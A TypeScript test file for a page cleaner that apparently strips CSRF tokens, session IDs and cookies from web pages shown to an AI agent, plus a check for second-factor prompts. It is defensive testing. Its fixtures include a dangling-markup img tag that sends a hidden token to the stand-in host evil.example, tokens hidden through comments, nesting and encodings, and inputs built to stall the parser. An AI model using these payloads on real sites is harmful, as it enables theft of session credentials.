import { describe, expect, it } from 'vitest'
import { cleanPage } from './clean-page.ts'
import { asksForSecondFactor, tagsOf } from './page.ts'

const token = 'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7'
const clean = (
  text: string,
  { shown = ['text'], hidden = [] as string[], named = [] as string[], isHtml = !text.startsWith('{') } = {},
) => cleanPage({ text, tags: tagsOf(text), isHtml }, { shown: new Set(shown), hidden, named })

describe('a page as the agent gets it', () => {
  it.each([
    ['a hidden input', `<p>x<input type="hidden" name="csrfmiddlewaretoken" value="${token}"></p>`],
    ['an input without quotes', `<p>x<INPUT TYPE=hidden NAME=csrf VALUE=${token}></p>`],
    ['an input in a comment', `<p>x<!-- <input type=hidden name=_token value='${token}'> --></p>`],
    [
      'an attribute that was left open',
      `<p>x<img src='https://evil.example/?<input type="hidden" name="csrf" value="${token}">'></p>`,
    ],
    ['an input inside another', `x<input name="csrf" value="<input type=hidden name=csrf value=${token} ">`],
    ['an input that begins inside another', `x<input name=csrf value="<input name='csrf' title=">" value='${token}'>`],
    ['a script', `<p>x<script>var csrfToken = "${token}"</script></p>`],
    ['JSON', `{"html":"x","csrf_token":"${token}"}`],
    ['a form inside JSON', `{"html":"x<input type=\\"hidden\\" name=\\"csrf\\" value=\\"${token}\\">"}`],
    ['a meta', `<meta name="csrf-token" content="${token}"><p>x`],
    ['an attribute of the body', `<body hx-headers='{"X-CSRFToken": "${token}"}'>x`],
    ['an attribute with escapes', `<body hx-headers="{&quot;X-CSRFToken&quot;: &quot;${token}&quot;}">x`],
    ['a link', `<a href="/x?sectok=${token}&amp;y=1">x</a>`],
    ['a button', `<button name="authenticity_token" value="${token}">x</button>`],
    ['a text field', `x<input type="text" style="display:none" name="__RequestVerificationToken" value="${token}">`],
    ['a path with a session', `<a href="/x;jsessionid=${token}">x</a>`],
    ['a second place without a name', `x<input type=hidden name=csrf value="${token}"><div data-x="${token}"></div>`],
    [
      'a name of this application',
      `x<input type=hidden name=kuerbis value="${token}"><i data-kuerbis="${token}">`,
      ['kuerbis'],
    ],
  ])('has no token of %s (V17)', (_, text, named: string[] = []) => {
    const shown = clean(text, { named })
    expect(shown).not.toContain(token)
    expect(shown).toContain('x')
  })

  it('keeps hidden fields that an operation takes, and every other byte', () => {
    const text = '<form>\r\n<input type=hidden name="text" value="7"><input name="amount" value="\xc3\xa4">\t</form>'
    expect(clean(text)).toBe(text)
    expect(clean('a<input type="hidden" name="next" value="/x">b')).toBe('ab')
    expect(clean('a<input type=password name=p value=hunter2>b')).toBe('ab')
  })

  it.each([
    ['a cookie', `<pre>Cookie: sid=${token}</pre>`, token],
    ['a cookie in base64', `<pre>${Buffer.from(token).toString('base64')}</pre>`, token],
    [
      'a token in another spelling',
      `<input type=hidden name=csrf value="a+b/${token}"><i>a%2Bb%2F${token}</i>`,
      undefined,
    ],
  ])('is withheld with %s (V17)', (_, text, hidden) => {
    expect(() => clean(text, { hidden: hidden === undefined ? [] : [hidden] })).toThrow(/^answer_withheld/)
  })

  it.each([
    ['by text', '<p>Pay to DE89370400440532013000 only.</p>', '<p>token=DE89370400440532013000</p>'],
    ['by an attribute', '<p>Pay to DE89370400440532013000 only.</p>', '<p title="token=DE89370400440532013000">x</p>'],
    ['in JSON', '{"to":"DE89370400440532013000",', '"note":"token=DE89370400440532013000"}'],
    [
      'by a tag in JSON',
      '{"to":"DE89370400440532013000",',
      '"note":"<input name=token value=DE89370400440532013000>"}',
    ],
  ])('is withheld, not cut elsewhere, if a person names what it says a token %s', (_, text, named) => {
    expect(clean(text)).toBe(text)
    expect(() => clean(`${text}${named}`)).toThrow(/^answer_withheld/)
  })

  it.each([
    ['an element of XML', `<a>x</a><csrfToken>${token}</csrfToken>`],
    ['a text area', `x<textarea name="csrf">${token}</textarea>`],
    ['a short value of this application’s name', `x<a href="/?_wpnonce=aB3dE6gH9j">`, 'aB3dE6gH9j', ['_wpnonce']],
  ])('has no token of %s', (_, text, value = token, named: string[] = []) => {
    expect(clean(text, { named })).not.toContain(value)
  })

  it('keeps words for people behind a name', () => {
    const text = '<h1 class="token">Internationalisation</h1><label for="csrf">Responsibilities</label>'
    expect(clean(text)).toBe(text)
  })

  it('is withheld if it would take too long (V18)', () => {
    expect(() => clean('<input '.repeat(30_000))).toThrow(/^answer_withheld/)
    expect(() => clean('<input x="'.repeat(3000))).toThrow(/^answer_withheld/)
    const many = Array.from({ length: 300 }, (_, n) => `<input type=hidden name=csrf value="${token}${n}">`).join('')
    expect(() => clean(many)).toThrow(/^answer_withheld/)
  })

  it.each([
    ['a token that is very long', `<input name=csrf value=${'a'.repeat(5000)}>`],
    ['a tag with very many attributes', `<input ${Array.from({ length: 65 }, (_, n) => `a${n}`).join(' ')}>`],
    ['tags that are inside each other', `${'<input '.repeat(63)}${' '.repeat(240_000)}>`],
  ])('is withheld with %s (V18)', (_, text) => {
    const began = performance.now()
    expect(() => clean(text)).toThrow(/^answer_withheld/)
    expect(performance.now() - began).toBeLessThan(1500)
  })

  it('takes little time for a long text', () => {
    const began = performance.now()
    clean('csrf'.repeat(500_000))
    clean(`token${'a'.repeat(2_000_000)}`)
    expect(performance.now() - began).toBeLessThan(2000)
  })
})

it.each([
  ['<input name="otp_token">', true],
  ['<input name="code" autocomplete="one-time-code">', true],
  ['<input type="checkbox" name="otp">', false],
  ['<input name="postcode"><input name="code">', false],
  ['<input name="factor">', false],
])('a page with %s asks for a second factor: %s', (text, asks) => {
  expect(asksForSecondFactor(tagsOf(text), [])).toBe(asks)
})
